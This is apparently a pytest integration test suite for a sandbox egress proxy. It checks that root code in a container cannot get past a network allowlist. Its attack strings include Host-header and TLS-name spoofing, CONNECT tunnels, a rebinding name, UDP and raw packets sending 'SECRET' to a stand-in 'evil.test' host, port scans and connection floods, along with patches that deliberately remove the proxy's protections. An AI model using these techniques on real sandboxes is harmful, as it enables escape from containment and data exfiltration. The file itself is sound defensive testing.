"""Ways out of a container whose task has an allowlist: root in it, and a server that wants to be reached."""

from __future__ import annotations

import contextlib
import shutil
import socketserver
import threading
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from errno import ECONNREFUSED
from pathlib import Path
from unittest import mock

import pytest

from evolve.core.records import SandboxSpec, SuiteProfile, TaskImage
from evolve.core.task_format import Environment, NetworkMode, NetworkPolicy, TaskFormat
from evolve.sandbox import egress, engine
from evolve.sandbox.container import Container
from evolve.sandbox.egress import set_network
from evolve.sandbox.resources import FILES
from evolve.sandbox.task_containers import task_container
from evolve.sandbox.task_state import TaskState
from tests.integration.egress_servers import Server, address_of_this_machine, docker, known_names, servers

from .conftest import OWNER

pytestmark = pytest.mark.docker
# A file of the proxy, a text in it, and what is there without a protection.
Hole = tuple[str, str, str]
# What an attack may use.
PRELUDE = """
import socket, ssl, struct, urllib.request
def spoken(place, request, name=None):
    end = socket.create_connection(place, 4)
    if name:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        end = context.wrap_socket(end, server_hostname=name)
    end.settimeout(4)
    end.sendall(request)
    end.settimeout(1)
    said = b""
    try:
        while data := end.recv(9999): said += data
    except TimeoutError: pass
    return said.decode()
def get(url): return urllib.request.urlopen(url, timeout=4).read().decode()
def own_ports():
    lines = [line.split() for line in open("/proc/net/tcp")][1:]
    return [int(line[1].partition(":")[2], 16) for line in lines if line[3] == "0A"]
"""


@dataclass(frozen=True)
class Net:
    """The server that the allowlist names, and one that it does not; `host`: this machine's address for containers."""

    good: Server
    evil: Server
    host: str
    base: str

    def policy(self) -> NetworkPolicy:
        return NetworkPolicy(NetworkMode.ALLOWLIST, ("good.test", "rebound.test", self.good.address))

    def names(self) -> Mapping[str, str]:
        return {"good.test": self.good.address, "evil.test": self.evil.address, "rebound.test": self.evil.address}


@pytest.fixture(scope="module")
def net(task_images: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Net]:
    with servers(task_images, tmp_path_factory.mktemp("servers"), "good", "evil") as made:
        yield Net(made["good"], made["evil"], address_of_this_machine(), task_images)


@contextlib.contextmanager
def container(net: Net, policy: NetworkPolicy, owner: str = OWNER) -> Iterator[tuple[Container, TaskState]]:
    """A loose task's container, in which everything runs as root."""
    format = TaskFormat(harbor=True, environment=Environment(network=policy))
    spec = SandboxSpec(memory_mb=128, network=policy.mode is NetworkMode.PUBLIC)
    state = TaskState(owner, TaskImage(net.base, "/tmp"), spec, SuiteProfile.LOOSE, None, format)
    made = task_container(state, 120)
    try:
        with known_names(net.names()):
            set_network(made, state, policy)
        yield made, state
    finally:
        made.kill()
        state.remove()
        assert engine.sweep(owner) == 0


def run(made: Container, attack: str, net: Net) -> str:
    """What a program prints in the container."""
    values = {"GOOD": net.good.address, "EVIL": net.evil.address, "HOST": net.host}
    program = "".join(f"{name} = {value!r}\n" for name, value in values.items()) + PRELUDE + attack
    with contextlib.closing(made.shell("0:0", "/")) as shell:
        done = shell.run("python3 -", timeout=60, stdin=program.encode())
    return done.stdout.decode() + done.stderr.decode()


@contextlib.contextmanager
def changed(folder: Path, *holes: Hole) -> Iterator[None]:
    """The proxy's program with another text in some of its files."""
    copy = folder / "files"
    shutil.copytree(FILES, copy)
    for name, old, new in holes:
        file = copy / "egress" / name
        text = file.read_text()
        assert old in text
        file.write_text(text.replace(old, new))
    with mock.patch.object(egress, "FILES", copy):
        yield


# By name: the program, which prints what a server said, and the protection without which that is GOT's.
ANY_ADDRESS = ("allowed.py", "return parsed is not None and any(", "return parsed is not None or any(")
ANY_RANGE = (
    "names.py",
    'STAND_INS = ipaddress.ip_network("198.18.0.0/15")',
    'STAND_INS = ipaddress.ip_network("0.0.0.0/0")',
)
TOLD = ("names.py", "FIRST = STAND_INS[16]", 'FIRST = ipaddress.ip_address("198.18.0.16")')
NO_ADDRESSES = (ANY_ADDRESS, ANY_RANGE, TOLD)
ANY_HOST = ("proxy.py", "if not all(self.allowed.has_name", "if False and not all(self.allowed.has_name")
ANY_NAME = ("allowed.py", "return name in self.names or", "return True or")
ANY_TRUE_ADDRESS = ("allowed.py", "return self.has_address(address) or is_public(address)", "return True")
ATTACKS: Mapping[str, tuple[str, str, tuple[Hole, ...]]] = {
    "an address": ("print(get(f'http://{EVIL}:8123/'))", "evil", NO_ADDRESSES),
    "an address with an allowed Host": (
        "print(spoken((EVIL, 80), b'GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'))", "evil", NO_ADDRESSES),
    "an address with an allowed server name": (
        "print(spoken((EVIL, 443), b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'good.test'))", "evil", NO_ADDRESSES),
    "an address, server first": ("print(socket.create_connection((EVIL, 2222), 4).recv(99))", "evil", NO_ADDRESSES),
    "the host": ("print(socket.create_connection((HOST, PORT), 4).recv(99))", "the machine", NO_ADDRESSES),
    "a name": ("print(get('http://evil.test/'))", "evil", (ANY_NAME, ANY_TRUE_ADDRESS)),
    "another Host": (
        "print(spoken(('good.test', 80), b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'))", "good evil.test",
        (ANY_HOST,)),
    "another target": (
        "print(spoken(('good.test', 80), b'GET http://evil.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'))", "good",
        (ANY_HOST,)),
    "a tunnel": (
        "print(spoken(('good.test', 80), b'CONNECT evil.test:80 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'))", "501",
        (ANY_HOST,)),
    "another server name": (
        "print(spoken(('good.test', 443), b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'evil.test'))", "good",
        (ANY_HOST,)),
    "a rebound name": ("print(get('http://rebound.test/'))", "evil", (ANY_TRUE_ADDRESS,)),
}  # fmt: skip


@pytest.fixture(scope="module")
def closed(net: Net) -> Iterator[Container]:
    """A container with the real proxy."""
    with container(net, net.policy(), f"{OWNER}-closed") as (made, _):
        yield made


class _Says(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.sendall(b"the machine")


@pytest.fixture(scope="module")
def port(net: Net) -> Iterator[int]:
    """The port of a server of this machine."""
    with socketserver.ThreadingTCPServer((net.host, 0), _Says) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield int(server.server_address[1])
        server.shutdown()


@pytest.mark.parametrize("name", list(ATTACKS))
def test_no_way_leads_past_the_allowlist(closed: Container, net: Net, port: int, name: str) -> None:
    attack, got, _ = ATTACKS[name]
    assert got not in run(closed, f"PORT = {port}\n{attack}", net)


@pytest.mark.parametrize("name", list(ATTACKS))
def test_the_attack_works_without_its_protection(tmp_path: Path, net: Net, port: int, name: str) -> None:
    attack, got, hole = ATTACKS[name]
    with changed(tmp_path, *hole), container(net, net.policy()) as (made, _):
        assert got in run(made, f"PORT = {port}\n{attack}", net)


def test_what_is_allowed_gets_through(closed: Container, net: Net) -> None:
    tls = "spoken(('good.test', 443), b'GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n', 'good.test')"
    plain = "get('http://good.test/'), get('http://good.test:8123/'), get(f'http://{GOOD}/')"
    first = "socket.create_connection(('good.test', 2222), 4).recv(99)"
    output = run(closed, f"print({tls}, {plain}, {first})", net)
    assert output.count("good") >= 6 and "evil" not in output, output


def test_a_connection_to_another_address_is_refused_as_it_is_made(closed: Container, net: Net) -> None:
    attempt = "print([socket.socket().connect_ex((a, 8123)) for a in (EVIL, HOST, '169.254.169.254', GOOD)])"
    assert run(closed, attempt, net).split("\n")[0] == f"[{ECONNREFUSED}, {ECONNREFUSED}, {ECONNREFUSED}, 0]"


def _listed_hosts(made: Container, net: Net) -> str:
    """What connections to a host of the list end with, by address and by an address of its name."""
    return run(made, "print([socket.socket().connect_ex((a, 8123)) for a in (GOOD, '198.18.0.16')])", net).strip()


def test_without_a_network_a_connection_to_a_listed_host_is_refused_as_it_is_made(tmp_path: Path, net: Net) -> None:
    def phases(made: Container, state: TaskState) -> list[str]:
        seen = []
        for policy in (NetworkPolicy(), net.policy(), NetworkPolicy()):
            set_network(made, state, policy)
            seen.append(_listed_hosts(made, net))
        return [*seen, run(made, "print(own_ports())", net).strip()]

    refused = f"[{ECONNREFUSED}, {ECONNREFUSED}]"
    with container(net, net.policy()) as (made, state):
        assert phases(made, state) == [refused, "[0, 0]", refused, "[]"]
    hole = ("proxy.py", "if not is_open and self._server is not None:", "if False:")
    with changed(tmp_path, hole), container(net, net.policy()) as (made, state):
        assert phases(made, state)[0] == "[0, 0]"


PACKETS = """
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    end = socket.socket(socket.AF_INET, kind, 0 if kind == socket.SOCK_DGRAM else socket.IPPROTO_UDP)
    data = b"SECRET" if kind == socket.SOCK_DGRAM else struct.pack(">HHHH", 5353, 53, 14, 0) + b"SECRET"
    for target in ((EVIL, 53), (EVIL, 5353)):
        try: end.sendto(data, target)
        except OSError as error: print(error)
"""


def test_no_packet_beside_tcp_leaves(closed: Container, net: Net) -> None:
    run(closed, PACKETS, net)
    assert "SECRET" not in net.evil.heard()
    with container(net, NetworkPolicy(NetworkMode.PUBLIC)) as (public, _):
        run(public, PACKETS, net)
    assert "SECRET" in net.evil.heard()


OWN_PORTS = """
for port in own_ports():
    try: print(port, spoken(("127.0.0.1", port), b"GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"))
    except OSError as error: print(port, "nothing", error)
"""


def test_the_ports_of_the_proxy_say_nothing(closed: Container, net: Net) -> None:
    lines = run(closed, OWN_PORTS, net).splitlines()
    assert len(lines) == 1 and "nothing" in lines[0]


def test_the_proxy_of_another_trial_can_not_be_reached(closed: Container, net: Net) -> None:
    """It listens nowhere in its own network, and its container is all that the other trial's has."""
    assert isinstance(closed.outlet, egress.Egress)
    listening = docker("exec", closed.outlet.proxy.id, "sh", "-c", "cat /proc/net/[tu]*p*")
    assert not [line for line in listening.splitlines() if " 0A " in line or " 07 " in line]
    address = docker("inspect", "-f", "{{.NetworkSettings.IPAddress}}", closed.outlet.proxy.id)
    with container(net, NetworkPolicy(NetworkMode.PUBLIC)) as (public, _):
        scan = f"print([p for p in range(1, 3000) if not socket.socket().connect_ex(({address!r}, p))])"
        assert run(public, scan, net).strip() == "[]"


HELD = """
import time
end = socket.create_connection((GOOD, 2222), 4)
end.recv(99)
open("/tmp/ready", "w").close()
while True:
    end.sendall(b"still here")
    time.sleep(0.2)
    open("/tmp/alive", "w").write(str(time.time()))
"""


def _outlives_the_phase(made: Container, state: TaskState, net: Net) -> bool:
    """Whether a connection that was made in one phase goes on in another that reaches nothing."""
    with contextlib.closing(made.shell("0:0", "/")) as shell:
        program = f"GOOD = {net.good.address!r}\n{PRELUDE}{HELD}"
        shell.run("cat > /tmp/held.py", stdin=program.encode())
        shell.run("setsid python3 /tmp/held.py >/dev/null 2>&1 & while [ ! -e /tmp/ready ]; do sleep 0.1; done")
        set_network(made, state, NetworkPolicy())
        done = shell.run("sleep 1; rm -f /tmp/alive; sleep 1; [ -e /tmp/alive ]")
    return done.exit_code == 0


def test_no_connection_outlives_its_phase(tmp_path: Path, net: Net) -> None:
    with container(net, net.policy()) as (made, state):
        assert not _outlives_the_phase(made, state, net)
    hole = ("proxy.py", "task.cancel()\n\n    async def serve", "pass\n\n    async def serve")
    with changed(tmp_path, hole), container(net, net.policy()) as (made, state):
        assert _outlives_the_phase(made, state, net)


FLOOD = """
ends = []
for count in range(2000):
    try: ends.append(socket.create_connection((GOOD, 8123), 1))
    except OSError: break
for name in range(10000):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        try: end.sendto(bytes([name % 256]) * 60, ("198.18.0.1", 53))
        except OSError: pass
ends.clear()
import time
time.sleep(1)
print(get("http://good.test/"))
"""


def test_a_flood_does_not_end_the_proxy(net: Net) -> None:
    with container(net, net.policy()) as (made, state):
        assert "good" in run(made, FLOOD, net)
        set_network(made, state, NetworkPolicy())
